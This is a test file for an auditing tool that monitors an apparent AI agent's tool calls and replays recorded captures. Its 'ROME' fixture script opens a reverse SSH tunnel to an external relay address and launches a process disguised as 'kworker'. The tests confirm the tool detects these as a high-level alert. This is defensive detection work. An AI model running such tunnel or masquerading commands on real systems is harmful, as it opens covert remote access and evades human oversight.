"""What was captured live is judged alike later, anywhere, by anyone."""

from __future__ import annotations

import bisect
import io
import json
import subprocess
from pathlib import Path
from typing import NamedTuple

import pytest

from auditor.capture.format import HEADER
from auditor.capture.tape import Reader
from auditor.decode.wire import decode
from auditor.errors import CaptureError
from auditor.model.records import FRAME, FRAME_SIZE
from tests.kernel.auditors import PROGRAM, action, audit, lines

REVERSE_TUNNEL = "Reverse SSH tunnel to an external address"

# ROME in small, in a network of its own: nobody answers at the external address, and asking there is the offence.
ROME = """\
ip link set lo up
ip address add 203.0.113.66/32 dev lo
git --version
bash -c 'setsid ssh -o BatchMode=yes -fNR 8022:localhost:22 relay@203.0.113.66; exit'
bash -c 'exec -a kworker sleep 0'
exit 11
"""


class Recorded(NamedTuple):
    """One live run, three ways."""

    capture: Path
    alerts: bytes
    events: list[dict[str, object]]
    stream: Path


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Recorded:
    """Run ROME as a tool call; alerts as JSON, everything as a capture."""
    folder = tmp_path_factory.mktemp("rome")
    folder.chmod(0o755)
    capture, alerts, stream = folder / "capture", folder / "alerts.json", folder / "events.json"
    given = ("--session", "rome", "--tool-call", "t7", "--capture", capture, "--output", alerts)
    done = audit("exec", *given, "--", "unshare", "--net", "bash", "-c", ROME)
    assert done.returncode == 11, done.stderr
    replayed = audit("replay", "--events", "all", capture)
    assert (replayed.returncode, replayed.stderr) == (0, b"")
    stream.write_bytes(replayed.stdout)
    return Recorded(capture, alerts.read_bytes(), lines(replayed.stdout), stream)


def test_rome_is_caught_live(recorded: Recorded) -> None:
    """The live run has the one alert, with tool call, tree and what was connected to; ordinary work has none."""
    (alert,) = lines(recorded.alerts)
    assert alert["rule"]["name"] == REVERSE_TUNNEL
    assert alert["auditor"]["rule"]["level"] == "high"
    assert alert["auditor"]["session"]["id"] == "rome"
    assert alert["auditor"]["tool_call"]["id"] == "t7"
    assert alert["destination"] == {"ip": "203.0.113.66", "port": 22}
    assert [Path(node["executable"]).name for node in alert["auditor"]["tree"]] == ["bash", "bash", "ssh"]
    assert alert["auditor"]["quality"]["losses"] == []


def test_replay_is_the_same_to_the_byte(recorded: Recorded) -> None:
    """Replaying the capture prints exactly the bytes that the live run wrote."""
    done = audit("replay", recorded.capture)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout == recorded.alerts


def test_replay_by_an_ordinary_user(recorded: Recorded) -> None:
    """It takes no rights to replay: an ordinary user, given the capture, reads the same."""
    # The capability to read any file stands for a checkout that everyone may read; nothing else is left.
    user = ("--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs")
    reading = ("--bounding-set=-all,+dac_read_search", "--inh-caps=-all,+dac_read_search")
    command = ["setpriv", *user, *reading, "--ambient-caps=+dac_read_search", "--", *PROGRAM, "replay", "-"]
    with recorded.capture.open("rb") as capture:
        done = subprocess.run(command, stdin=capture, capture_output=True, check=False)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout == recorded.alerts


def test_stream_of_events_gives_the_same_alerts(recorded: Recorded) -> None:
    """The JSON stream, replayed, gives the same alerts for the same processes at the same time."""
    events = recorded.stream.with_name("events-alone.json")
    alone = [line for line in recorded.stream.read_bytes().splitlines(True) if b'"kind":"alert"' not in line]
    events.write_bytes(b"".join(alone))
    done = audit("replay", events)
    assert done.returncode == 0
    live, again = lines(recorded.alerts), lines(done.stdout)
    assert [essence(alert) for alert in again] == [essence(alert) for alert in live]
    whole = audit("replay", recorded.stream)
    assert lines(whole.stdout) == again


def essence(alert: dict[str, object]) -> dict[str, object]:
    """Give what must not differ, whatever an alert is made from."""
    text = json.loads(json.dumps(alert))
    return {
        "time": text["@timestamp"],
        "rule": text["rule"]["id"],
        "level": text["auditor"]["rule"]["level"],
        "session": text["auditor"]["session"]["id"],
        "tool_call": text["auditor"]["tool_call"]["id"],
        "process": {key: text["process"].get(key) for key in ("pid", "entity_id", "executable", "args")},
        "tree": [{key: node.get(key) for key in ("pid", "executable", "args")} for node in text["auditor"]["tree"]],
        "destination": text["destination"],
    }


def test_capture_holds_what_happened(recorded: Recorded) -> None:
    """Every program of the scenario is in the capture with its arguments, its end, and facts about its file."""
    started = [event["process"]["args"] for event in recorded.events if action(event) == "exec"]
    for args in (["git", "--version"], ["ip", "link", "set", "lo", "up"]):
        assert args in started
    assert ["kworker", "0"] in [args[:2] for args in started]
    born, ended = (
        sorted(it["process"]["entity_id"] for it in recorded.events if action(it) == word) for word in ("fork", "exit")
    )
    assert born == ended
    marks = [event.get("auditor", {}).get("executable", {}).get("marks", []) for event in recorded.events]
    assert ["client:openssh"] in marks
    assert "loss" not in [action(event) for event in recorded.events]


def test_capture_cut_anywhere_reads_to_its_last_whole_record(recorded: Recorded) -> None:
    """Wherever a crash cut a capture off, what reads is exactly the records that are whole."""
    content = recorded.capture.read_bytes()
    ends = [HEADER.size]
    while ends[-1] < len(content):
        length = FRAME.unpack_from(content, ends[-1])[0]
        ends.append(ends[-1] + FRAME_SIZE + (length + 7 & ~7))
    assert ends[-1] == len(content)
    assert len(ends) > 30
    some = sorted({*range(0, len(ends), 7), len(ends) - 2})
    cuts = {ends[n] + more for n in some for more in range(FRAME_SIZE + 2)} | {*range(ends[-2], ends[-1] + 1)}
    for cut in sorted(cut for cut in cuts if cut <= len(content)):
        reader = Reader(io.BytesIO(content[:cut]), "cut")
        assert sum(len(decode(block)) for _, block in reader.blocks()) == bisect.bisect(ends, cut) - 1
        assert reader.cut == (cut not in ends)
    for cut in range(1, HEADER.size):
        with pytest.raises(CaptureError, match="cut off within its header"):
            Reader(io.BytesIO(content[:cut]), "cut")


def test_replay_of_a_cut_capture(recorded: Recorded, tmp_path: Path) -> None:
    """Replaying a capture that was cut off judges what is there, says so, and is a success."""
    cut = tmp_path / "cut"
    cut.write_bytes(recorded.capture.read_bytes()[:-5])
    done = audit("replay", cut)
    assert done.returncode == 0
    assert done.stdout == recorded.alerts
    assert done.stderr.decode() == f"auditor: {cut} ends within a record; everything before that was judged\n"
